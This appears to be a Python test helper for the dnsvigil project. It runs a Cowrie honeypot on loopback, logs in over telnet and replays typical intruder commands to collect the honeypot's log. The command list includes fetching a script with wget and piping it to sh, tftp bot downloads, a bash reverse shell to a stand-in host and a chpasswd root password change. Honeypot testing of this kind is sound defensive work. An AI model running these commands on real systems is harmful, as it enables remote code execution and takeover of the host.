"""Cowrie on loopback, attacked over telnet: ``attacked(folder)`` returns the log that it wrote.

Cowrie is no dependency of dnsvigil: ``tests/install-cowrie`` installs it into ``build/cowrie``. It connects to no
address of a loopback or documentation network, so the attacker's downloads fail.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import time
from collections.abc import Iterable
from pathlib import Path
from typing import Final

NAME: Final = "files.download-x.com"
"""Where the attacker fetches a program."""

COMMANDS: Final = (
    b"cd /tmp; wget http://files.download-x.com/x.sh -O- | sh",
    b"curl -o y http://files.download-x.com/x.sh",
    b"wget google.com",
    b"tftp -g -r bot.arm 203.0.113.80",
    b"tftp -r bot.mips -g c2.tftp-x.com",
    b"bash -i >& /dev/tcp/shell.reverse-x.com/4444 0>&1",
    b"busybox wget http://user:secret@192.0.2.99:8080/bins/a.x86; chmod 777 a.x86",
    b"echo 'root:hunter2'|chpasswd",
)

_CONFIGURATION: Final = """
[honeypot]
hostname = srv
[ssh]
enabled = false
[telnet]
enabled = true
listen_endpoints = tcp:{port}:interface=127.0.0.1
[output_jsonlog]
enabled = true
logfile = var/log/cowrie/cowrie.json
epoch_timestamp = false
"""
_SECONDS: Final = 60.0
_FOLDER: Final = Path(__file__).parents[2] / "build" / "cowrie" / "bin"


def program() -> str | None:
    """Return the path of Cowrie's program, None where there is none."""
    return shutil.which("cowrie", path=_FOLDER) or shutil.which("cowrie")


def attacked(folder: Path) -> Path:
    """Start Cowrie in a folder, attack it once, and stop it."""
    cowrie = program()
    assert cowrie
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    for name in ("etc", "var/log/cowrie", "var/lib/cowrie/tty", "var/lib/cowrie/downloads", "var/run"):
        (folder / name).mkdir(parents=True)
    (folder / "etc" / "cowrie.cfg").write_text(_CONFIGURATION.format(port=port))
    as_nobody: list[str] = []
    if not os.getuid():  # which Cowrie refuses; it may lie where root alone can read
        for path in (folder, *folder.rglob("*")):
            shutil.chown(path, "nobody")
        capability = "+dac_read_search"
        as_nobody = ["setpriv", "--reuid=nobody", "--clear-groups", f"--inh-caps={capability}"]
        as_nobody += [f"--ambient-caps={capability}"]
    environment = {**os.environ, "HOME": str(folder), "PATH": f"{Path(cowrie).parent}:{os.environ['PATH']}"}
    subprocess.run([*as_nobody, cowrie, "start"], cwd=folder, env=environment, check=True, capture_output=True)
    try:
        _log_in(port, COMMANDS)
    finally:
        subprocess.run([*as_nobody, cowrie, "stop"], cwd=folder, env=environment, check=False, capture_output=True)
    return folder / "var/log/cowrie/cowrie.json"


def _log_in(port: int, commands: Iterable[bytes]) -> None:
    with _connected(port) as connection:
        connection.settimeout(_SECONDS)
        _until(connection, b"login: ")
        connection.sendall(b"root\r\n")
        _until(connection, b"assword: ")
        connection.sendall(b"hunter\r\n")
        _until(connection, b"# ")
        for command in commands:
            connection.sendall(command + b"\r\n")
            _until(connection, b"# ")


def _connected(port: int) -> socket.socket:
    end = time.monotonic() + _SECONDS
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port))
        except ConnectionRefusedError:
            if time.monotonic() > end:
                raise
            time.sleep(0.2)


def _until(connection: socket.socket, text: bytes) -> None:
    found = b""
    while text not in found:
        more = connection.recv(4096)
        assert more, found
        found += more
